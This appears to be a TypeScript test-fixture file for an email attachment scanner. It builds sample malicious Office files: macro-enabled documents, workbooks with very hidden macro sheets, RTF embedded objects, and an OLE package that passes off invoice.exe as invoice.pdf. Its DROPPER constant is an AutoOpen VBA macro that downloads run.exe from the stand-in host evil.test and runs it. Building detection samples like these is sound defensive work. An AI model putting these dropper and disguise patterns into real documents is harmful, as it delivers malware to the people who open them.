import { compoundFile } from '../compound-file.ts';
import type { Attachment } from '../mails.ts';
import { docx, MAIN, officePackage, paragraph } from '../office-files.ts';
import { ole1Embedded, packageData } from '../ole-objects.ts';
import { peProgram } from '../programs.ts';
import { vbaFile, vbaProject } from '../vba.ts';

/** Documents with something in them. */

export const program = peProgram();
export const file = (name: string, content: Buffer | string): Attachment => ({
  name,
  content: Buffer.from(content as string, 'latin1'),
});

export const DROPPER = [
  'Sub AutoOpen()',
  '  Set o = CreateObject("MSXML2." & "XMLHTTP")',
  '  o.Open "GET", Chr(104) & "ttp://evil.test/run.exe"',
  '  Shell "cmd /c start run.exe"',
  'End Sub',
].join('\r\n');
export const HARMLESS = 'Sub SortRows()\r\n  Range("A1:B9").Sort Range("A1")\r\nEnd Sub\r\n';
const modules = (source: string) => [{ name: 'Module1', source }];

export const docm = (source: string): Buffer =>
  docx(paragraph('Enable content.'), {
    main: MAIN.docm,
    parts: {
      'word/vbaProject.bin': { content: vbaFile(...modules(source)), type: 'application/vnd.ms-office.vbaProject' },
    },
    relationships: [
      { type: 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', target: 'vbaProject.bin' },
    ],
  });
export const doc = (source: string): Buffer =>
  compoundFile({
    WordDocument: Buffer.alloc(4096),
    Macros: { clsid: '', in: vbaProject({ modules: modules(source) }) },
  });

const X = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
const R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';
const XM = 'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"';

const MACRO_SHEET = {
  id: 'm1',
  type: 'http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet',
  target: 'macrosheets/sheet1.xml',
};

export function workbook(rows: string, more: { names?: string; macros?: string } = {}): Buffer {
  const { names = '', macros } = more;
  const sheets = `<sheet name="Sheet1" r:id="s1"/>${macros === undefined ? '' : '<sheet name="Macro1" r:id="m1" state="veryHidden"/>'}`;
  return officePackage({
    parts: {
      'xl/workbook.xml': {
        content: `<workbook ${X} ${R}><sheets>${sheets}</sheets><definedNames>${names}</definedNames></workbook>`,
        type: MAIN.xlsx,
      },
      'xl/worksheets/sheet1.xml': `<worksheet ${X} ${R}><sheetData>${rows}</sheetData></worksheet>`,
      ...(macros === undefined
        ? {}
        : {
            'xl/macrosheets/sheet1.xml': {
              content: `<xm:macrosheet ${X} ${XM}><sheetData>${macros}</sheetData></xm:macrosheet>`,
              type: 'application/vnd.ms-excel.macrosheet+xml',
            },
          }),
    },
    relationships: {
      '': [{ type: 'officeDocument', target: 'xl/workbook.xml' }],
      'xl/workbook.xml': [
        { id: 's1', type: 'worksheet', target: 'worksheets/sheet1.xml' },
        ...(macros === undefined ? [] : [MACRO_SHEET]),
      ],
    },
  });
}

export const formula = (text: string): string => `<row><c r="A1"><f>${text}</f><v>0</v></c></row>`;

export const rtfObject = (hex: string, more = ''): string =>
  `{\\rtf1 See there.{\\object\\objemb${more}{\\*\\objdata ${hex}}}}`;
export const packaged = (): Buffer =>
  ole1Embedded('Package', packageData('invoice.pdf', 'C:\\tmp\\invoice.exe', program));
export const external = (type: string, target: string): Buffer =>
  docx(paragraph('x'), { relationships: [{ type, target, external: true }] });

export function lengthBefore(data: Buffer): Buffer {
  const size = Buffer.alloc(4);
  size.writeUInt32LE(data.length);
  return Buffer.concat([size, data]);
}
